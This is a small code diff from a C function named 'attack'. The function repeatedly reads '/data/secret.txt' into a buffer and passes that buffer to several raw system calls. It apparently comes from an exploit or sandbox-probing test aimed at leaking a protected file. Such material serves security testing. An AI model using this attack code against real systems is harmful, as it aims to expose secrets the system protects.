@@ -13,8 +13,8 @@ long attack(void)
     int file = open("/data/secret.txt", O_RDONLY);
     for (int i = 0; i < 20000; i++) {
         pread(file, page, 4096, 0);
-        clock_gettime(0, (void *)page);
-        getcwd(page, 4096);
+        syscall(SYS_clock_gettime, 0L, page);
+        syscall(SYS_getcwd, page, 4096L);
         syscall(SYS_getrandom, page, 256L, 0L);
         access(page, R_OK);
     }
